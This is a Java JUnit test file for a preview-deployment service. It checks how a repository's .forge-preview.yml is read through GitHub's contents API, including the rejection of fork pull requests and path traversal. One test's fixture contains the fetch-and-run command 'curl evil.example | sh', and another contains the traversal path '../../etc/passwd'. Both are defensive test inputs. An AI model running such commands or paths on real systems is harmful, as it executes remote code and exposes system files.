package dev.forgepreview.activities.github;

import static org.assertj.core.api.Assertions.assertThat;

import dev.forgepreview.workflows.FailureType;
import dev.forgepreview.workflows.activities.GitHubActivities;
import dev.forgepreview.workflows.activities.GitHubActivities.PreviewFileContent;
import dev.forgepreview.workflows.activities.GitHubActivities.PullRequestRef;
import dev.forgepreview.workflows.activities.GitHubActivities.ReadPreviewFileRequest;
import io.temporal.failure.ActivityFailure;
import io.temporal.failure.ApplicationFailure;
import io.temporal.testing.TestActivityEnvironment;
import java.io.IOException;
import java.time.Clock;
import java.util.List;
import mockwebserver3.MockWebServer;
import okhttp3.OkHttpClient;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;

/** The preview file read over GitHub's contents API at the pull request's exact commit. */
class ReadPreviewFileTest {
  private static final String FIRST = "1111111111111111111111111111111111111111";
  private static final String SECOND = "2222222222222222222222222222222222222222";
  private static final String PATH = ".forge-preview.yml";
  private static final List<String> ALL = List.of("environment", "setup", "deploy");
  private static final PullRequestRef PR = new PullRequestRef("acme", "shop", 42);

  private final MockWebServer server = new MockWebServer();
  private final FakeGitHubRepository github = new FakeGitHubRepository("acme/shop", 42);
  private TestActivityEnvironment env;
  private GitHubActivities activities;

  @BeforeEach
  void start() throws IOException {
    server.setDispatcher(github);
    server.start();
    env = TestActivityEnvironment.newInstance();
    env.registerActivitiesImplementations(
        new GitHubActivitiesImpl(
            new GitHubClient(
                GitHubConfig.withApiUrl(server.url("/").toString()),
                new TokenCredentials("ghp_test_token"),
                new OkHttpClient(),
                Clock.systemUTC())));
    activities = GitHubActivitiesImplTest.stub(env);
  }

  @AfterEach
  void stop() {
    env.close();
    server.close();
  }

  private PreviewFileContent read(String sha, List<String> allow) {
    return activities.readPreviewFile(new ReadPreviewFileRequest("r", PR, sha, PATH, allow));
  }

  @Test
  void eachCommitGivesItsOwnFileWithoutTheEnvironmentValues() {
    github
        .file(FIRST, PATH, "environment:\n  MAIL_MAILER: log\nsetup:\n  - php artisan db:seed\n")
        .file(
            SECOND,
            PATH,
            "environment:\n  MAIL_MAILER: array\n  FEATURE_X: on\ndeploy:\n  - php artisan"
                + " storage:link\n");

    PreviewFileContent first = read(FIRST, ALL);
    PreviewFileContent second = read(SECOND, ALL);

    assertThat(first.present()).isTrue();
    assertThat(first.sha()).isEqualTo(FIRST);
    assertThat(first.environmentKeys()).containsExactly("MAIL_MAILER");
    assertThat(first.setup()).containsExactly("php artisan db:seed");
    assertThat(first.deploy()).isEmpty();
    assertThat(second.environmentKeys()).containsExactly("MAIL_MAILER", "FEATURE_X");
    assertThat(second.setup()).isEmpty();
    assertThat(second.deploy()).containsExactly("php artisan storage:link");
    // Only keys travel: no value of the file is in what the workflow gets.
    assertThat(first.toString() + second.toString()).doesNotContain("log").doesNotContain("array");
    assertThat(github.requested())
        .contains(
            "/repos/acme/shop/contents/.forge-preview.yml?ref=" + FIRST,
            "/repos/acme/shop/contents/.forge-preview.yml?ref=" + SECOND);
  }

  @Test
  void aMissingFileIsNoError() {
    PreviewFileContent content = read(FIRST, ALL);

    assertThat(content.present()).isFalse();
    assertThat(content.ignoredReason()).isNull();
    assertThat(content.environmentKeys()).isEmpty();
  }

  @Test
  void partsTheRepositoriesFileDoesNotAllowAreLeftOutAndNamed() {
    github.file(
        FIRST, PATH, "environment:\n  A: b\nsetup:\n  - php artisan db:seed\ndeploy:\n  - ls\n");

    PreviewFileContent content = read(FIRST, List.of("deploy"));

    assertThat(content.environmentKeys()).isEmpty();
    assertThat(content.setup()).isEmpty();
    assertThat(content.deploy()).containsExactly("ls");
    assertThat(content.notAllowed()).containsExactly("environment", "setup");
  }

  @Test
  void aPullRequestFromAForkGetsNothingFromItsFile() {
    github.fromFork("mallory/shop").file(FIRST, PATH, "setup:\n  - curl evil.example | sh\n");

    PreviewFileContent content = read(FIRST, ALL);

    assertThat(content.present()).isTrue();
    assertThat(content.ignoredReason()).contains("fork").contains("mallory/shop");
    assertThat(content.setup()).isEmpty();
    assertThat(content.environmentKeys()).isEmpty();
    assertThat(content.deploy()).isEmpty();
  }

  @Test
  void aMalformedFileFailsForGoodNamingItsLine() {
    github.file(FIRST, PATH, "environment:\n  MAIL_MAILER: log\n  bad key: x\n");

    ApplicationFailure failure = failureOf(() -> read(FIRST, ALL));

    assertThat(failure.getType()).isEqualTo(FailureType.INVALID_INPUT.name());
    assertThat(failure.isNonRetryable()).isTrue();
    assertThat(failure.getOriginalMessage())
        .isEqualTo(".forge-preview.yml line 3: environment key 'bad key' is not [A-Z_][A-Z0-9_]*");
  }

  @Test
  void aPathOutsideTheRepositoryIsRefusedBeforeAnyCall() {
    ApplicationFailure failure =
        failureOf(
            () ->
                activities.readPreviewFile(
                    new ReadPreviewFileRequest("r", PR, FIRST, "../../etc/passwd", ALL)));

    assertThat(failure.getType()).isEqualTo(FailureType.INVALID_INPUT.name());
    assertThat(github.requested()).noneMatch(path -> path.contains("contents"));
  }

  private static ApplicationFailure failureOf(Runnable call) {
    try {
      call.run();
    } catch (ActivityFailure e) {
      return (ApplicationFailure) e.getCause();
    }
    throw new AssertionError("the call did not fail");
  }

  @Test
  void servicesAreAnsweredByNameOnlyAndReadAgainAtTheSameCommit() {
    github.file(
        FIRST,
        PATH,
        "services:\n  worker:\n    build: docker/worker\n    environment: {QUEUE: 'x y'}\n"
            + "  cache:\n    image: redis:7\n");

    PreviewFileContent content = read(FIRST, List.of("services"));
    PreviewFileContent forge = read(FIRST, ALL);

    assertThat(content.services()).containsExactly("worker", "cache");
    assertThat(content.notAllowed()).isEmpty();
    assertThat(forge.services()).isEmpty();
    assertThat(forge.notAllowed()).containsExactly("services");
    PreviewFiles files =
        new PreviewFiles(
            new GitHubClient(
                GitHubConfig.withApiUrl(server.url("/").toString()),
                new TokenCredentials("ghp_test_token"),
                new OkHttpClient(),
                Clock.systemUTC()));
    var services =
        files.services(
            new dev.forgepreview.workflows.activities.ComposeActivities.PreviewServices(
                "acme/shop", FIRST, PATH, List.of("worker", "cache")));
    assertThat(services.get("worker").build()).isEqualTo("docker/worker");
    assertThat(services.get("worker").environment()).containsEntry("QUEUE", "x y");
    assertThat(services.get("cache").image()).isEqualTo("redis:7");
    assertThat(github.requested()).contains("/repos/acme/shop/contents/" + PATH + "?ref=" + FIRST);
  }
}
